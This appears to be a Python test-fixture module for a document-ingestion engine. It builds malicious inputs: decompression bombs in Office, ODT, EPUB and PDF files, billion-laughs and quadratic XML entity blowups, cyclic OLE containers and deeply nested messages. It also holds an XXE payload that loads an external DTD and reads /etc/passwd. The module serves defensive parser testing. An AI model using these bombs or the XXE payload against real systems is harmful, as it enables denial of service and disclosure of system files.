"""Files made to hurt whoever reads them; large ones are made of small pieces, so that making them is quick."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping

from engine.ingestion.parsers import compound_file, warm_up, warm_up_ole

GIGABYTE = 2**30
MEGABYTE = 2**20
_PIECE_BYTES = 4 * MEGABYTE


def deflated(piece: bytes, size_bytes: int, wrapped: bool = False) -> bytes:
    """A deflate stream that unpacks to ``piece`` over and over, about ``size_bytes`` of it."""
    unit = piece * max(1, _PIECE_BYTES // len(piece))
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    # Flushed in full, the packed pieces do not refer to one another and can be repeated.
    packed = packer.compress(unit) + packer.flush(zlib.Z_FULL_FLUSH)
    stream = packed * max(1, round(size_bytes / len(unit))) + b"\x03\x00"
    return b"\x78\x9c" + stream + bytes(4) if wrapped else stream


def deflated_between(start: bytes, piece: bytes, size_bytes: int, end: bytes) -> tuple[bytes, int, int]:
    """As ``deflated``, with something around it; also what the whole unpacks to: its size and its CRC."""
    unit = piece * max(1, _PIECE_BYTES // len(piece))
    count = max(1, round(size_bytes / len(unit)))
    packed = b""
    for text in (start, unit, end):
        packer = zlib.compressobj(9, zlib.DEFLATED, -15)
        one = packer.compress(text) + packer.flush(zlib.Z_FULL_FLUSH)
        packed += one * count if text is unit else one
    checksum = zlib.crc32(start)
    for _ in range(count):
        checksum = zlib.crc32(unit, checksum)
    return packed + b"\x03\x00", len(start) + len(unit) * count + len(end), zlib.crc32(end, checksum)


def raw_zip(members: Mapping[str, tuple[bytes, int, int]], whole: Mapping[str, bytes] | None = None) -> bytes:
    """A zip archive of deflated ``members``: the packed bytes, and the size and CRC that it says of each.

    ``whole`` are members that are as they should be, and come first.
    """
    rows: list[bytes] = []
    out: list[bytes] = []
    at = 0
    packed_members = {
        name: (zlib.compress(held)[2:-4], len(held), zlib.crc32(held)) for name, held in (whole or {}).items()
    }
    for name, (packed, size, checksum) in {**packed_members, **members}.items():
        # Sizes of four gigabytes and more stand in an extra field.
        extra = struct.pack("<HHQQ", 1, 16, size, len(packed)) if size >= 2**32 else b""
        told = (0xFFFFFFFF, 0xFFFFFFFF) if extra else (len(packed), size)
        shared = struct.pack("<HHHIIIIIHH", 45, 0x800, 8, 0, checksum, *told, 0, 0, 0)[:-8]
        shared += struct.pack("<HH", len(name.encode()), len(extra))
        row = b"PK\x01\x02" + struct.pack("<H", 45) + shared + struct.pack("<HHHII", 0, 0, 0, 0, at)
        rows.append(row + name.encode() + extra)
        out.append(b"PK\x03\x04" + shared + name.encode() + extra + packed)
        at += len(out[-1])
    count = len(packed_members) + len(members)
    end = struct.pack("<4HIIH", 0, 0, count, count, sum(map(len, rows)), at, 0)
    return b"".join((*out, *rows, b"PK\x05\x06", end))


def zipped(members: Mapping[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def members_of(package: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(package)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


PACKAGES: dict[str, tuple[Callable[[], bytes], str]] = {
    "docx": (warm_up.small_docx, "word/document.xml"),
    "xlsx": (warm_up.small_xlsx, "xl/worksheets/sheet1.xml"),
    "pptx": (warm_up.small_pptx, "ppt/slides/slide1.xml"),
    "odt": (warm_up.small_odt, "content.xml"),
    "epub": (warm_up.small_epub, "in/two.xhtml"),
}


def package_with(kind: str, content: bytes | Callable[[bytes], bytes]) -> bytes:
    """A package whose main part is ``content``, or what it makes of the usual one."""
    make, main = PACKAGES[kind]
    members = members_of(make())
    members[main] = content if isinstance(content, bytes) else content(members[main])
    return zipped(members)


def inside(added: bytes) -> Callable[[bytes], bytes]:
    """What puts ``added`` at the end of a main part's text."""

    def put(part: bytes) -> bytes:
        start, mark, end = _cut(part)
        return start + added + mark + end

    return put


def package_bomb(kind: str, piece: bytes, size_bytes: int, told_bytes: int | None = None) -> bytes:
    """A package whose main part has ``piece`` so often that it is of ``size_bytes``, in front of its last text.

    ``told_bytes`` is the size that it claims instead.
    """
    make, main = PACKAGES[kind]
    members = members_of(make())
    start, mark, end = _cut(members.pop(main))
    packed, size, checksum = deflated_between(start, piece, size_bytes, mark + end)
    return raw_zip({main: (packed, size if told_bytes is None else told_bytes, checksum)}, members)


def _cut(part: bytes) -> tuple[bytes, bytes, bytes]:
    for mark in (b"</w:body>", b"</sheetData>", b"</p:spTree>", b"</o:text>", b"</body>"):
        if mark in part:
            return part.partition(mark)
    raise AssertionError("no place for a bomb")


_RELATED = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _with_part(members: dict[str, bytes], main: str, part: str, kind: str, declared: str, content: str) -> bytes:
    """A package with one more part, related to its main part."""
    folder, _, file = main.rpartition("/")
    override = f'<Override PartName="/{folder}/{part}" ContentType="{declared}+xml"/></Types>'
    related = f'<Relationship Id="r9" Type="{_RELATED}/{kind}" Target="{part}"/></Relationships>'
    empty = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
    relations = f"{folder}/_rels/{file}.rels"
    types = "[Content_Types].xml"
    members[types] = members[types].replace(b"</Types>", override.encode())
    members[relations] = members.get(relations, empty).replace(b"</Relationships>", related.encode())
    members[f"{folder}/{part}"] = content.encode()
    return zipped(members)


def one_text_in_many_cells() -> bytes:
    members = members_of(warm_up.small_xlsx())
    sheet = "xl/worksheets/sheet1.xml"
    members[sheet] = inside(b"<row>" + b'<c t="s"><v>0</v></c>' * 100_000 + b"</row>")(members[sheet])
    texts = "<si><t>" + "word " * 6000 + "</t></si>"
    content = f"<sst xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'>{texts}</sst>"
    declared = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings"
    return _with_part(members, "xl/workbook.xml", "sharedStrings.xml", "sharedStrings", declared, content)


def styles_on_styles(count: int) -> bytes:
    """A document whose paragraph has a style that is based on another, and so on."""
    members = members_of(warm_up.small_docx())
    added = b'<w:p><w:pPr><w:pStyle w:val="s0"/></w:pPr><w:r><w:t>Styled.</w:t></w:r></w:p>'
    members["word/document.xml"] = inside(added)(members["word/document.xml"])
    styles = "".join(
        f'<w:style w:type="paragraph" w:styleId="s{number}"><w:name w:val="n{number}"/>'
        f'<w:basedOn w:val="s{number + 1}"/></w:style>'
        for number in range(count)
    )
    content = f'<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">{styles}</w:styles>'
    declared = "application/vnd.openxmlformats-officedocument.wordprocessingml.styles"
    return _with_part(members, "word/document.xml", "styles.xml", "styles", declared, content)


def pdf_with(replaced: Mapping[int, bytes]) -> bytes:
    """The warm-up's PDF with objects of other content; readers find them though their places are off."""
    pieces = warm_up.small_pdf().split(b"endobj")
    for number, body in replaced.items():
        start = pieces[number - 1][:9] if number == 1 else b""
        pieces[number - 1] = start + b"\n%d 0 obj\n%s\n" % (number, body)
    return b"endobj".join(pieces)


def pdf_bomb(piece: bytes, size_bytes: int) -> bytes:
    content = deflated(piece, size_bytes, wrapped=True)
    return pdf_with({4: b"<< /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (len(content), content)})


_LEVELS = "".join(f'<!ENTITY a{level} "{f"&a{level - 1};" * 10}">' for level in range(1, 12))
LAUGHS = f'<!DOCTYPE x [<!ENTITY a0 "laugh">{_LEVELS}]>'
QUADRATIC = f'<!DOCTYPE x [<!ENTITY big "{"laugh" * 20_000}">]>'
EXTERNAL = (
    '<!DOCTYPE x [<!ENTITY % all SYSTEM "http://192.0.2.1/all.dtd"> %all; <!ENTITY e SYSTEM "file:///etc/passwd">]>'
)


def chain_in_circles(data: bytes) -> bytes:
    """An OLE container in which every sector is followed by itself."""
    out = bytearray(data)
    count = struct.unpack_from("<I", data, 44)[0]
    for table in struct.unpack_from(f"<{count}I", data, 76):
        start = (table + 1) * 512
        struct.pack_into("<128I", out, start, *range(128))
    return bytes(out)


def directory_in_circles(data: bytes) -> bytes:
    """An OLE container whose entries lead left and right to themselves and down to the root."""
    out = bytearray(data)
    start = (struct.unpack_from("<I", data, 48)[0] + 1) * 512
    for number in range(4):
        struct.pack_into("<III", out, start + number * 128 + 68, number, number, 1 if number == 0 else 0)
    return bytes(out)


OLE: dict[str, Callable[[], bytes]] = {
    "doc": warm_up_ole.small_doc,
    "ppt": warm_up_ole.small_ppt,
    "xls": warm_up_ole.small_xls,
    "msg": warm_up.small_msg,
}


def mail_in_mail(depth: int) -> bytes:
    inner = b"Subject: innermost\r\nMIME-Version: 1.0\r\nContent-Type: text/plain\r\n\r\nThe innermost text.\r\n"
    for number in range(depth):
        edge = b"edge%d" % number
        inner = (
            b"Subject: level %d\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=%s\r\n\r\n"
            b"--%s\r\nContent-Type: text/plain\r\n\r\nLevel %d.\r\n--%s\r\nContent-Type: message/rfc822\r\n\r\n%s\r\n"
            b"--%s--\r\n" % (number, edge, edge, number, edge, inner, edge)
        )
    return inner


def message_in_message(depth: int) -> bytes:
    inner: compound_file.Content = warm_up.msg_storage(24, {0x37: "innermost", 0x1000: "The innermost text."}, {})
    for number in range(depth):
        attached: compound_file.Content = {
            **warm_up.msg_storage(8, {0x3001: "Inner"}, {0x3705: 5}),
            "__substg1.0_3701000D": inner,
        }
        own = warm_up.msg_storage(24 if number < depth - 1 else 32, {0x37: f"level {number}", 0x1000: "Text."}, {})
        inner = {**own, "__attach_version1.0_#00000000": attached}
    return compound_file.write(inner)
